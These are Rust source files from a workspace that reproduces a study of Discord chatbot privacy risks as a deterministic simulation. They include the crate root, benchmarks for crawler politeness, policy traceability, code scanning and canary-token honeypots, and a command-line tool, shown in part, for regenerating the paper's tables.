//! Risks of Chatbots in Messaging Services"** (Edu et al., IMC 2022).
//!
//! The paper proposes an automated assessment pipeline for messaging-
//! platform chatbots — crawling listings, tracing privacy-policy
//! disclosures against requested permissions, scanning public source for
//! permission checks, and catching data-snooping backends with
//! canary-token honeypots — and applies it to Discord.
//!
//! This workspace rebuilds the entire stack as a deterministic simulation:
//!
//! | layer | crate |
//! |---|---|
//! | virtual network fabric | [`netsim`] |
//! | HTML + Selenium-style locators | [`htmlsim`] |
//! | the Discord-like platform | [`discord_sim`] |
//! | the chatbot SDK & backends | [`botsdk`] |
//! | the top.gg-like listing site | [`botlist`] |
//! | the data-collection crawler | [`crawler`] |
//! | privacy policies & traceability | [`policy`] |
//! | source-code analysis | [`codeanal`] |
//! | canary-token honeypots | [`honeypot`] |
//! | the calibrated synthetic population | [`synth`] |
//! | the assessment pipeline itself | [`chatbot_audit`] |
//!
//! ## Quick start
//!
//! ```
//! use chatbot_audit::{AuditConfig, AuditPipeline, table2_traceability};
//! use synth::{build_ecosystem, EcosystemConfig};
//!
//! // A small world with the paper's distributions planted.
//! let eco = build_ecosystem(&EcosystemConfig::test_scale(150, 7));
//! // Run data collection + traceability + code analysis.
//! let pipeline = AuditPipeline::new(AuditConfig::default());
//! let (bots, _stats) = pipeline.run_static_stages(&eco.net);
//! let t2 = table2_traceability(&bots);
//! assert_eq!(t2.complete, 0); // the paper found no complete traceability
//! ```
//!
//! See `examples/` for runnable scenarios and `crates/bench` for the
//! harness that regenerates every table and figure of the paper.

#![forbid(unsafe_code)]

pub use botlist;
pub use botsdk;
pub use chatbot_audit;
pub use codeanal;
pub use crawler;
pub use discord_sim;
pub use honeypot;
pub use htmlsim;
pub use netsim;
pub use policy;
pub use synth;
