//! Ablations for the design choices DESIGN.md calls out.
//!
//! 1. **Keyword ontology** — full ontology (synonyms + ecosystem terms) vs
//!    base verbs only: how many policies get misclassified as broken.
//! 2. **Crawler politeness** — polite vs impolite sessions against the
//!    defended listing site: how many fetches fail.
//! 3. **Honeypot realism** — feed + personas vs a silent guild: whether a
//!    dormancy-triggered snooper ever fires.
//! 4. **Scanner patterns** — per-pattern contribution to check detection.

use botlist::LIST_HOST;
use chatbot_audit::{AuditConfig, AuditPipeline};
use codeanal::genrepo;
use codeanal::scanner::{scan_repository, CheckPattern};
use crawler::session::ScrapeSession;
use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use honeypot::campaign::CampaignConfig;
use netsim::http::Url;
use policy::{analyze, KeywordOntology, Traceability};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;
use synth::{build_ecosystem, EcosystemConfig};

fn ablate_ontology() {
    let eco = build_ecosystem(&EcosystemConfig::test_scale(1500, 50));
    let pipeline = AuditPipeline::new(AuditConfig::default());
    let (bots, _) = pipeline.run_static_stages(&eco.net);
    let count_partial = |ontology: &KeywordOntology| {
        bots.iter()
            .filter(|b| {
                let report = analyze(b.crawled.policy.as_ref(), &[], ontology);
                report.classification == Traceability::Partial
            })
            .count()
    };
    let full = count_partial(&KeywordOntology::standard());
    let base = count_partial(&KeywordOntology::base_verbs_only());
    println!("[ablation:ontology] partial-classified policies: full={full} base-verbs-only={base}");
    assert!(base <= full, "removing synonyms can only lose coverage");
}

fn ablate_politeness() {
    // A strictly defended site: the polite crawler survives, the impolite
    // one bleeds failures.
    let eco = build_ecosystem(&EcosystemConfig {
        num_bots: 120,
        seed: 51,
        rate_limit: Some((5, 1.0)),
        captcha_every: Some(50),
        email_wall_after_page: None,
        ..EcosystemConfig::default()
    });
    let fetch_all = |mut session: ScrapeSession| {
        let mut ok = 0;
        let mut failed = 0;
        for page in 0..5 {
            for _ in 0..10 {
                match session
                    .fetch(Url::https(LIST_HOST, "/list").with_query("page", &page.to_string()))
                {
                    Ok(resp) if resp.status.is_success() => ok += 1,
                    _ => failed += 1,
                }
            }
        }
        (ok, failed)
    };
    let (polite_ok, polite_fail) = fetch_all(ScrapeSession::new(eco.net.clone(), 1));
    let (rude_ok, rude_fail) = fetch_all(ScrapeSession::impolite(eco.net.clone(), 1));
    println!(
        "[ablation:politeness] polite ok={polite_ok} fail={polite_fail} | impolite ok={rude_ok} fail={rude_fail}"
    );
    assert!(polite_fail < rude_fail, "politeness must reduce failures");
}

fn ablate_feed_realism() {
    // The snooper triggers after N observed messages. With the feed, the
    // campaign catches it; with feed_messages=0 the guild stays silent and
    // the snooper never fires — the paper's rationale for a realistic feed.
    let run = |feed_messages: usize| {
        let eco = build_ecosystem(&EcosystemConfig::test_scale(80, 52));
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot: CampaignConfig {
                feed_messages,
                ..CampaignConfig::default()
            },
            honeypot_sample: 10,
            ..AuditConfig::default()
        });
        pipeline.run_honeypot(&eco).detections.len()
    };
    let with_feed = run(25);
    let silent = run(0);
    println!("[ablation:feed] detections with feed={with_feed} silent-guild={silent}");
    assert_eq!(with_feed, 1);
    assert_eq!(
        silent, 0,
        "a silent honeypot misses dormancy-triggered snoopers"
    );
}

fn ablate_scanner_patterns() {
    let mut rng = StdRng::seed_from_u64(53);
    let mut repos = Vec::new();
    for i in 0..200 {
        repos.push(if i % 2 == 0 {
            genrepo::js_bot_repo(&mut rng, "d/js", true)
        } else {
            genrepo::py_bot_repo(&mut rng, "d/py", true)
        });
    }
    let mut per_pattern = [0usize; 4];
    let mut any = 0usize;
    for repo in &repos {
        let report = scan_repository(repo);
        if report.performs_checks() {
            any += 1;
        }
        for (pattern, _) in &report.hits {
            let idx = CheckPattern::ALL
                .iter()
                .position(|p| p == pattern)
                .expect("known");
            per_pattern[idx] += 1;
        }
    }
    println!("[ablation:scanner] repos with any check: {any}/200");
    for (i, pattern) in CheckPattern::ALL.iter().enumerate() {
        println!(
            "  {:?} ({}) hit in {} repos",
            pattern,
            pattern.needle(),
            per_pattern[i]
        );
    }
    assert_eq!(any, 200, "all generated check-repos are detected");
    // No single pattern explains everything — removing one from Table 3
    // would lose repos.
    assert!(per_pattern.iter().all(|&n| n < 200));
}

fn ablate_runtime_enforcer() {
    // Identical world, identical bots: Discord's unenforced model yields
    // detections; the Slack/Teams-style runtime enforcer starves the same
    // backends of content entirely (§6 contrast, implemented).
    let run = |enforced: bool| {
        let eco = build_ecosystem(&EcosystemConfig {
            num_bots: 100,
            seed: 56,
            num_snoopers: 1,
            num_exfiltrators: 1,
            captcha_every: None,
            rate_limit: None,
            email_wall_after_page: None,
            ..EcosystemConfig::default()
        });
        if enforced {
            eco.platform
                .set_runtime_policy(discord_sim::RuntimePolicy::Enforced);
        }
        let pipeline = AuditPipeline::new(AuditConfig {
            honeypot_sample: 20,
            ..AuditConfig::default()
        });
        let report = pipeline.run_honeypot(&eco);
        (report.detections.len(), report.triggers.len())
    };
    let (det_open, trig_open) = run(false);
    let (det_enforced, trig_enforced) = run(true);
    println!(
        "[ablation:enforcer] unenforced detections={det_open} triggers={trig_open} | enforced detections={det_enforced} triggers={trig_enforced}"
    );
    assert_eq!(det_open, 2);
    assert_eq!(det_enforced, 0);
    assert_eq!(trig_enforced, 0);
}

fn ablate_ml_vs_keywords() {
    // The paper's future work: train an ML classifier on the annotated
    // corpus and compare with the keyword analyzer on held-out policies.
    use policy::{train_and_score, DataPractice, PrivacyPolicy, Traceability};
    let mut rng = StdRng::seed_from_u64(57);
    let mut corpus: Vec<(PrivacyPolicy, Traceability)> = Vec::new();
    for i in 0..600 {
        corpus.push(match i % 4 {
            0 => (
                policy::corpus::complete_policy(&mut rng, "B", i % 8 == 0),
                Traceability::Complete,
            ),
            1 => (
                policy::corpus::partial_policy(&mut rng, "B", &[DataPractice::Collect], true),
                Traceability::Partial,
            ),
            2 => (policy::corpus::generic_boilerplate(), Traceability::Partial),
            _ => (policy::corpus::vacuous_policy(), Traceability::Broken),
        });
    }
    let (train, test) = corpus.split_at(480);
    let (_, ml_accuracy) = train_and_score(train, test);
    let ontology = KeywordOntology::standard();
    let kw_accuracy = test
        .iter()
        .filter(|(doc, label)| analyze(Some(doc), &[], &ontology).classification == *label)
        .count() as f64
        / test.len() as f64;
    println!(
        "[ablation:ml] held-out accuracy: naive-bayes={ml_accuracy:.3} keyword={kw_accuracy:.3}"
    );
    assert!(ml_accuracy > 0.9);
    assert!(kw_accuracy > 0.9);
}

fn bench_ablations(c: &mut Criterion) {
    ablate_ontology();
    ablate_politeness();
    ablate_feed_realism();
    ablate_scanner_patterns();
    ablate_runtime_enforcer();
    ablate_ml_vs_keywords();

    // Timed comparison: full vs base ontology on a fixed corpus.
    let mut rng = StdRng::seed_from_u64(54);
    let policies: Vec<policy::PrivacyPolicy> = (0..128)
        .map(|_| policy::corpus::complete_policy(&mut rng, "B", true))
        .collect();
    for (name, ontology) in [
        ("full", KeywordOntology::standard()),
        ("base_verbs", KeywordOntology::base_verbs_only()),
    ] {
        c.bench_function(&format!("ablation/ontology_{name}"), |b| {
            let mut i = 0;
            b.iter(|| {
                i = (i + 1) % policies.len();
                black_box(analyze(Some(&policies[i]), &[], &ontology))
            })
        });
    }

    c.bench_function("ablation/polite_crawl_60_bots", |b| {
        b.iter_batched(
            || build_ecosystem(&EcosystemConfig::test_scale(60, 55)),
            |eco| {
                let pipeline = AuditPipeline::new(AuditConfig::default());
                black_box(pipeline.run_static_stages(&eco.net).0.len())
            },
            BatchSize::PerIteration,
        )
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_ablations
}
criterion_main!(benches);
