//! Observability-layer microbenchmarks: what the obs handles cost on the
//! hot paths they instrument.
//!
//! Three groups:
//!
//! * **span lifecycle** — open + record + drop-close with the
//!   `NullRecorder` (tracing disabled: the instrumented-but-off default
//!   every production path runs) vs the `JsonRecorder` (full capture);
//! * **metrics** — counter add / histogram observe, the always-live
//!   relaxed-atomic registry updates;
//! * **end-to-end** — a small full audit (crawl + analysis + honeypot)
//!   under each recorder, the number `BENCH_obs.json` tracks at scale.

use chatbot_audit::{AuditConfig, AuditPipeline};
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion};
use obs::{JsonRecorder, ManualClock, Obs};
use std::hint::black_box;
use std::sync::Arc;
use synth::{build_ecosystem, EcosystemConfig};

fn bench_span_lifecycle(c: &mut Criterion) {
    let mut group = c.benchmark_group("obs_span");

    let disabled = Obs::disabled();
    group.bench_function(
        BenchmarkId::from_parameter("open_record_close/null_recorder"),
        |b| {
            b.iter(|| {
                let span = disabled.span_keyed(black_box("bench"), black_box(7));
                span.record("field", 42);
            })
        },
    );

    let recorder = Arc::new(JsonRecorder::new());
    let traced = Obs::with_recorder(recorder, Arc::new(ManualClock::new()));
    group.bench_function(
        BenchmarkId::from_parameter("open_record_close/json_recorder"),
        |b| {
            b.iter(|| {
                let span = traced.span_keyed(black_box("bench"), black_box(7));
                span.record("field", 42);
            })
        },
    );

    group.finish();
}

fn bench_metrics(c: &mut Criterion) {
    let mut group = c.benchmark_group("obs_metrics");
    let obs = Obs::disabled();

    let counter = obs.counter("bench.counter");
    group.bench_function(BenchmarkId::from_parameter("counter_add"), |b| {
        b.iter(|| counter.add(black_box(1)));
    });

    let histogram = obs.histogram("bench.histogram");
    group.bench_function(BenchmarkId::from_parameter("histogram_record"), |b| {
        b.iter(|| histogram.record(black_box(173)));
    });

    group.finish();
}

/// A small but complete audit (every stage, both roots) under each
/// recorder. The wall-clock ratio between the two bars is the tracing tax;
/// the NullRecorder bar IS the production path.
fn bench_end_to_end(c: &mut Criterion) {
    let mut group = c.benchmark_group("obs_end_to_end");
    group.sample_size(10);

    let config = || AuditConfig {
        honeypot_sample: 10,
        ..AuditConfig::default()
    };

    group.bench_function(BenchmarkId::from_parameter("audit/null_recorder"), |b| {
        b.iter(|| {
            let eco = build_ecosystem(&EcosystemConfig::test_scale(60, 2022));
            let pipeline = AuditPipeline::new(config());
            black_box(pipeline.run_full(&eco));
        })
    });

    group.bench_function(BenchmarkId::from_parameter("audit/json_recorder"), |b| {
        b.iter(|| {
            let eco = build_ecosystem(&EcosystemConfig::test_scale(60, 2022));
            let recorder = Arc::new(JsonRecorder::new());
            let obs = Obs::with_recorder(recorder, Arc::new(eco.net.clock().clone()));
            let pipeline = AuditPipeline::with_obs(config(), obs);
            black_box(pipeline.run_full(&eco));
        })
    });

    group.finish();
}

criterion_group!(
    benches,
    bench_span_lifecycle,
    bench_metrics,
    bench_end_to_end
);
criterion_main!(benches);
