//! Figure 3 bench: regenerates the permission distribution and times the
//! kernels behind it (invite-field decoding, distribution aggregation).

use bench::prepare_world;
use chatbot_audit::{figure3_distribution, render_figure3};
use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use discord_sim::Permissions;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::hint::black_box;

fn bench_fig3(c: &mut Criterion) {
    let world = prepare_world(2_000, 42);

    // Print the regenerated figure once, so `cargo bench` output carries
    // the reproduction artifact alongside the timings.
    let rows = figure3_distribution(&world.bots, 20);
    println!("\n{}", render_figure3(&rows));

    c.bench_function("fig3/distribution_2000_bots", |b| {
        b.iter(|| figure3_distribution(black_box(&world.bots), 20))
    });

    c.bench_function("fig3/invite_field_decode", |b| {
        let mut rng = StdRng::seed_from_u64(7);
        let fields: Vec<String> = (0..1024).map(|_| rng.gen::<u64>().to_string()).collect();
        let mut i = 0;
        b.iter(|| {
            i = (i + 1) % fields.len();
            black_box(Permissions::from_invite_field(&fields[i]))
        })
    });

    c.bench_function("fig3/permission_names", |b| {
        let mut rng = StdRng::seed_from_u64(8);
        let sets: Vec<Permissions> = (0..1024)
            .map(|_| Permissions(rng.gen::<u64>() & Permissions::ALL_KNOWN.0))
            .collect();
        let mut i = 0;
        b.iter(|| {
            i = (i + 1) % sets.len();
            black_box(sets[i].names())
        })
    });

    c.bench_function("fig3/full_crawl_400_bots", |b| {
        b.iter_batched(
            || (),
            |_| black_box(prepare_world(400, 9).bots.len()),
            BatchSize::PerIteration,
        )
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_fig3
}
criterion_main!(benches);
