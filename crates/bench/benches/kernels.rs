//! Analysis-kernel microbenchmarks: naive per-needle scanning vs the
//! single-pass `matchkit` automata that now sit behind the policy and
//! code-analysis hot paths.
//!
//! Two kernels, each measured both ways on the same corpus:
//!
//! * **policy keywords** — per-keyword `contains_word_prefix` over a
//!   lowercased copy (the pre-automaton loop) vs one case-insensitive
//!   word-prefix automaton pass ([`KeywordOntology::practices_in`]);
//! * **Table 3 needles** — `strip_noncode` into a fresh `String` followed
//!   by four `str::matches` passes vs the fused strip+match stream that
//!   [`scan_repository`] runs per file.

use codeanal::genrepo;
use codeanal::scanner::{scan_repository, strip_noncode};
use codeanal::{CheckPattern, Language, Repository};
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use policy::{contains_word_prefix, corpus, DataPractice, KeywordOntology};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;

/// A seeded mix of the policy population the synthesizer plants: tailored,
/// generic-template, partial, vacuous, and junk pages.
fn policy_corpus() -> Vec<String> {
    let mut rng = StdRng::seed_from_u64(22);
    let mut out = Vec::new();
    for i in 0..400 {
        let doc = match i % 5 {
            0 => corpus::complete_policy(&mut rng, "BenchBot", true),
            1 => corpus::complete_policy(&mut rng, "BenchBot", false),
            2 => corpus::partial_policy(
                &mut rng,
                "BenchBot",
                &[DataPractice::Collect, DataPractice::Use],
                false,
            ),
            3 => corpus::generic_boilerplate(),
            _ => corpus::vacuous_policy(),
        };
        out.push(doc.full_text());
    }
    out
}

/// The pre-automaton keyword loop: lowercase once, then probe every
/// keyword of every practice with the naive word-prefix scan.
fn naive_practices_in(ontology: &KeywordOntology, text: &str) -> Vec<DataPractice> {
    let lowered = text.to_lowercase();
    DataPractice::ALL
        .iter()
        .copied()
        .filter(|p| {
            ontology
                .keywords(*p)
                .iter()
                .any(|k| contains_word_prefix(&lowered, k))
        })
        .collect()
}

fn repo_corpus() -> Vec<Repository> {
    let mut rng = StdRng::seed_from_u64(33);
    let mut out = Vec::new();
    for i in 0..120 {
        out.push(match i % 4 {
            0 => genrepo::js_bot_repo(&mut rng, "d/a", true),
            1 => genrepo::js_bot_repo(&mut rng, "d/b", false),
            2 => genrepo::py_bot_repo(&mut rng, "d/c", true),
            _ => genrepo::py_bot_repo(&mut rng, "d/d", false),
        });
    }
    out
}

/// The pre-fusion Table 3 scan: materialize the stripped code, then run
/// one `str::matches` pass per needle.
fn naive_repo_hits(repo: &Repository) -> usize {
    let mut hits = 0;
    for file in &repo.files {
        let Some(lang) = file.language() else {
            continue;
        };
        if !matches!(
            lang,
            Language::JavaScript | Language::TypeScript | Language::Python
        ) {
            continue;
        }
        let code = strip_noncode(&file.content, &lang);
        for pattern in CheckPattern::ALL {
            hits += code.matches(pattern.needle()).count();
        }
    }
    hits
}

/// Sum of per-pattern occurrence counts in a scan report.
fn report_hits(report: &codeanal::ScanReport) -> usize {
    report.hits.iter().map(|(_, n)| n).sum()
}

fn bench_policy_kernel(c: &mut Criterion) {
    let ontology = KeywordOntology::standard();
    let texts = policy_corpus();
    let total_bytes: usize = texts.iter().map(|t| t.len()).sum();

    let mut group = c.benchmark_group("kernels/policy_keywords");
    group.throughput(Throughput::Bytes(total_bytes as u64));
    group.bench_function(BenchmarkId::from_parameter("naive_per_keyword"), |b| {
        b.iter(|| {
            let mut found = 0usize;
            for text in &texts {
                found += naive_practices_in(&ontology, black_box(text)).len();
            }
            black_box(found)
        })
    });
    group.bench_function(BenchmarkId::from_parameter("automaton_single_pass"), |b| {
        b.iter(|| {
            let mut found = 0usize;
            for text in &texts {
                found += ontology.practices_in(black_box(text)).len();
            }
            black_box(found)
        })
    });
    group.finish();

    // The two implementations must agree on the corpus before either
    // timing is worth trusting.
    for text in &texts {
        assert_eq!(
            naive_practices_in(&ontology, text),
            ontology.practices_in(text)
        );
    }
}

fn bench_scanner_kernel(c: &mut Criterion) {
    let repos = repo_corpus();
    let total_bytes: usize = repos
        .iter()
        .flat_map(|r| r.files.iter())
        .map(|f| f.content.len())
        .sum();

    let mut group = c.benchmark_group("kernels/table3_needles");
    group.throughput(Throughput::Bytes(total_bytes as u64));
    group.bench_function(BenchmarkId::from_parameter("naive_strip_then_match"), |b| {
        b.iter(|| {
            let mut hits = 0usize;
            for repo in &repos {
                hits += naive_repo_hits(black_box(repo));
            }
            black_box(hits)
        })
    });
    group.bench_function(BenchmarkId::from_parameter("fused_stream"), |b| {
        b.iter(|| {
            let mut hits = 0usize;
            for repo in &repos {
                hits += report_hits(&scan_repository(black_box(repo)));
            }
            black_box(hits)
        })
    });
    group.finish();

    for repo in &repos {
        assert_eq!(naive_repo_hits(repo), report_hits(&scan_repository(repo)));
    }
}

criterion_group!(kernels, bench_policy_kernel, bench_scanner_kernel);
criterion_main!(kernels);
