//! Table 1 bench: regenerates the developer histogram and times the
//! allocation + aggregation kernels.

use bench::prepare_world;
use chatbot_audit::{render_table1, table1_histogram};
use criterion::{criterion_group, criterion_main, Criterion};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;
use synth::developers::assign_developers;

fn bench_table1(c: &mut Criterion) {
    let world = prepare_world(2_000, 43);
    let rows = table1_histogram(&world.bots);
    println!("\n{}", render_table1(&rows));

    c.bench_function("table1/histogram_2000_bots", |b| {
        b.iter(|| table1_histogram(black_box(&world.bots)))
    });

    c.bench_function("table1/assign_developers_20915", |b| {
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(2);
            black_box(assign_developers(&mut rng, 20_915).len())
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_table1
}
criterion_main!(benches);
