//! Table 2 bench: regenerates the traceability results and times the
//! keyword-based analyzer on realistic policy corpora.

use bench::prepare_world;
use chatbot_audit::{render_table2, table2_traceability};
use criterion::{criterion_group, criterion_main, Criterion};
use policy::{analyze, corpus, DataPractice, KeywordOntology, PrivacyPolicy};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;

fn policy_corpus() -> Vec<PrivacyPolicy> {
    let mut rng = StdRng::seed_from_u64(5);
    let mut out = Vec::new();
    for i in 0..256 {
        out.push(match i % 4 {
            0 => corpus::complete_policy(&mut rng, "B", true),
            1 => corpus::partial_policy(
                &mut rng,
                "B",
                &[DataPractice::Collect, DataPractice::Use],
                false,
            ),
            2 => corpus::generic_boilerplate(),
            _ => corpus::vacuous_policy(),
        });
    }
    out
}

fn bench_table2(c: &mut Criterion) {
    let world = prepare_world(2_000, 44);
    let t2 = table2_traceability(&world.bots);
    println!("\n{}", render_table2(&t2));

    let ontology = KeywordOntology::standard();
    let policies = policy_corpus();
    let perms: Vec<&str> = vec![
        "read message history",
        "kick members",
        "administrator",
        "manage roles",
    ];

    c.bench_function("table2/analyze_one_policy", |b| {
        let mut i = 0;
        b.iter(|| {
            i = (i + 1) % policies.len();
            black_box(analyze(Some(&policies[i]), &perms, &ontology))
        })
    });

    c.bench_function("table2/summary_2000_bots", |b| {
        b.iter(|| table2_traceability(black_box(&world.bots)))
    });

    c.bench_function("table2/keyword_scan_long_text", |b| {
        let long: String = policies
            .iter()
            .map(|p| p.full_text())
            .collect::<Vec<_>>()
            .join("\n");
        b.iter(|| black_box(ontology.practices_in(&long)))
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_table2
}
criterion_main!(benches);
