//! Table 3 bench: regenerates the code-analysis summary and times the
//! permission-check scanner on generated repositories.

use bench::prepare_world;
use chatbot_audit::{render_table3, table3_code_analysis};
use codeanal::genrepo;
use codeanal::scanner::{scan_repository, strip_noncode};
use codeanal::{Language, Repository};
use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use rand::rngs::StdRng;
use rand::SeedableRng;
use std::hint::black_box;

fn repo_corpus() -> Vec<Repository> {
    let mut rng = StdRng::seed_from_u64(6);
    let mut out = Vec::new();
    for i in 0..200 {
        out.push(match i % 5 {
            0 => genrepo::js_bot_repo(&mut rng, "d/a", true),
            1 => genrepo::js_bot_repo(&mut rng, "d/b", false),
            2 => genrepo::py_bot_repo(&mut rng, "d/c", true),
            3 => genrepo::py_bot_repo(&mut rng, "d/d", false),
            _ => genrepo::readme_only_repo("d/e"),
        });
    }
    out
}

fn bench_table3(c: &mut Criterion) {
    let world = prepare_world(2_000, 45);
    let t3 = table3_code_analysis(&world.bots);
    println!("\n{}", render_table3(&t3));

    let repos = repo_corpus();
    let total_bytes: usize = repos
        .iter()
        .flat_map(|r| r.files.iter())
        .map(|f| f.content.len())
        .sum();

    let mut group = c.benchmark_group("table3");
    group.throughput(Throughput::Bytes(total_bytes as u64));
    group.bench_function(BenchmarkId::from_parameter("scan_200_repos"), |b| {
        b.iter(|| {
            let mut checking = 0;
            for repo in &repos {
                if scan_repository(black_box(repo)).performs_checks() {
                    checking += 1;
                }
            }
            black_box(checking)
        })
    });
    group.finish();

    c.bench_function("table3/strip_noncode_js", |b| {
        let mut rng = StdRng::seed_from_u64(11);
        let repo = genrepo::js_bot_repo(&mut rng, "d/x", true);
        let src = &repo.files[0].content;
        b.iter(|| black_box(strip_noncode(src, &Language::JavaScript)))
    });

    c.bench_function("table3/summary_2000_bots", |b| {
        b.iter(|| table3_code_analysis(black_box(&world.bots)))
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_table3
}
criterion_main!(benches);
