//! Scaling behaviour: how world construction and the full static pipeline
//! grow with the population size. The paper's crawl covered 20,915 listings
//! over weeks of wall-clock; the reproduction covers the same population in
//! seconds because all waiting is virtual — this bench quantifies that.

use bench::{prepare_world, prepare_world_workers};
use criterion::{criterion_group, criterion_main, BatchSize, BenchmarkId, Criterion, Throughput};
use std::hint::black_box;
use synth::{build_ecosystem, EcosystemConfig};

fn bench_scaling(c: &mut Criterion) {
    let mut group = c.benchmark_group("scaling/build_ecosystem");
    for n in [250usize, 1_000, 4_000] {
        group.throughput(Throughput::Elements(n as u64));
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, &n| {
            b.iter(|| {
                black_box(
                    build_ecosystem(&EcosystemConfig::test_scale(n, 8))
                        .truth
                        .bots
                        .len(),
                )
            })
        });
    }
    group.finish();

    let mut group = c.benchmark_group("scaling/static_pipeline");
    group.sample_size(10);
    for n in [250usize, 1_000] {
        group.throughput(Throughput::Elements(n as u64));
        group.bench_with_input(BenchmarkId::from_parameter(n), &n, |b, &n| {
            b.iter_batched(
                || (),
                |_| black_box(prepare_world(n, 8).bots.len()),
                BatchSize::PerIteration,
            )
        });
    }
    group.finish();

    // Worker-count sweep: the same static pipeline (sharded crawl +
    // work-stealing analysis) over a fixed 1,000-bot world.
    let mut group = c.benchmark_group("scaling/static_pipeline_workers");
    group.sample_size(10);
    for workers in [1usize, 2, 4, 8] {
        group.throughput(Throughput::Elements(1_000));
        group.bench_with_input(
            BenchmarkId::from_parameter(workers),
            &workers,
            |b, &workers| {
                b.iter_batched(
                    || (),
                    |_| black_box(prepare_world_workers(1_000, 8, workers).bots.len()),
                    BatchSize::PerIteration,
                )
            },
        );
    }
    group.finish();
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_scaling
}
criterion_main!(benches);
