//! Honeypot bench: regenerates the §4.2 dynamic-analysis result (one
//! detection among the most-voted sample) and times campaign throughput.

use bench::{prepare_world, run_honeypot};
use criterion::{criterion_group, criterion_main, BatchSize, Criterion};
use std::hint::black_box;

fn bench_honeypot(c: &mut Criterion) {
    let world = prepare_world(600, 46);
    let report = run_honeypot(&world, 50);
    println!(
        "\nHoneypot: {} guilds, {} bots, {} tokens, {} messages → {} detection(s)",
        report.guilds_created,
        report.bots_tested,
        report.tokens_planted,
        report.messages_posted,
        report.detections.len()
    );
    for det in &report.detections {
        println!(
            "  {} via {:?} tokens {:?}",
            det.bot_name, det.requesters, det.token_kinds
        );
    }
    assert_eq!(
        report.detections.len(),
        1,
        "the planted Melonian must be caught"
    );

    c.bench_function("honeypot/campaign_10_bots", |b| {
        b.iter_batched(
            || prepare_world(120, 47),
            |w| black_box(run_honeypot(&w, 10).bots_tested),
            BatchSize::PerIteration,
        )
    });

    c.bench_function("honeypot/feed_generation_25", |b| {
        use rand::rngs::StdRng;
        use rand::SeedableRng;
        b.iter(|| {
            let mut rng = StdRng::seed_from_u64(3);
            black_box(honeypot::feed::generate_feed(&mut rng, 5, 25).len())
        })
    });

    c.bench_function("honeypot/token_mint_guild_set", |b| {
        b.iter(|| {
            let mut mint = honeypot::TokenMint::new("sink.sim", "mail.sim");
            black_box(mint.mint_guild_set("guild-bench").len())
        })
    });
}

criterion_group! {
    name = benches;
    config = Criterion::default().sample_size(10);
    targets = bench_honeypot
}
criterion_main!(benches);
