//! Regenerate every table and figure of the paper's evaluation (§4.2).
//!
//! ```text
//! experiments [--scale N] [--seed S] [--honeypot-sample K] [--json PATH]
//!             [--markdown PATH] [--only fig3|table1|table2|table3|honeypot]
//!             [--enforced] [--workers N] [--bench-json PATH]
//!             [--store-dir DIR] [--resume] [--kill-after-frames N]
//!             [--store-bench-json PATH] [--obs-bench-json PATH]
//!             [--sched-bench-json PATH] [--oplog-bench-json PATH]
//! ```
//!
//! Defaults run the full paper-scale population (20,915 listings, 500
//! honeypot bots). Output is paper-vs-measured for every reported number.
//!
//! With `--store-dir` the pipeline runs through the crash-safe audit store:
//! completed work is journaled to `DIR` and analysis outputs land in a
//! content-addressed pack, so `--resume` continues a killed run and a warm
//! pack skips every unchanged analysis. `--kill-after-frames N` arms the
//! deterministic kill switch (for crash drills); `--store-bench-json`
//! measures cold vs warm vs resumed wall time.

use bench::{render_comparisons, Comparison};
use chatbot_audit::{
    figure3_distribution, render_figure3, render_table1, render_table2, render_table3,
    table1_histogram, table2_traceability, table3_code_analysis, validate_against_truth,
    AuditConfig, AuditPipeline, ResumableOutcome, ResumeError, StoreConfig,
};
use obs::{JsonRecorder, MetricValue, Obs};
use std::sync::Arc;
use synth::{build_ecosystem, EcosystemConfig};

struct Args {
    scale: usize,
    seed: u64,
    honeypot_sample: usize,
    json: Option<String>,
    markdown: Option<String>,
    only: Option<String>,
    enforced: bool,
    workers: usize,
    bench_json: Option<String>,
    store_dir: Option<String>,
    resume: bool,
    kill_after_frames: Option<u64>,
    store_bench_json: Option<String>,
    obs_bench_json: Option<String>,
    sched_bench_json: Option<String>,
    oplog_bench_json: Option<String>,
}

fn parse_args() -> Args {
    let mut args = Args {
        scale: 20_915,
        seed: 2022,
        honeypot_sample: 500,
        json: None,
        markdown: None,
        only: None,
        enforced: false,
        workers: 1,
        bench_json: None,
        store_dir: None,
        resume: false,
        kill_after_frames: None,
        store_bench_json: None,
        obs_bench_json: None,
        sched_bench_json: None,
        oplog_bench_json: None,
    };
    let argv: Vec<String> = std::env::args().skip(1).collect();
    let mut i = 0;
    while i < argv.len() {
        match argv[i].as_str() {
            "--scale" => {
                args.scale = argv
                    .get(i + 1)
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(args.scale);
                i += 2;
            }
            "--seed" => {
                args.seed = argv
                    .get(i + 1)
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(args.seed);
                i += 2;
            }
            "--honeypot-sample" => {
                args.honeypot_sample = argv
                    .get(i + 1)
                    .and_then(|v| v.parse().ok())
                    .unwrap_or(args.honeypot_sample);
                i += 2;
            }
            "--json" => {
                args.json = argv.get(i + 1).cloned();
                i += 2;
            }
            "--markdown" => {
                args.markdown = argv.get(i + 1).cloned();
                i += 2;
            }
            "--only" => {
                args.only = argv.get(i + 1).cloned();
                i += 2;
            }
            "--enforced" => {
                args.enforced = true;
                i += 1;
            }
            "--workers" => {
                args.workers = argv
                    .get(i + 1)
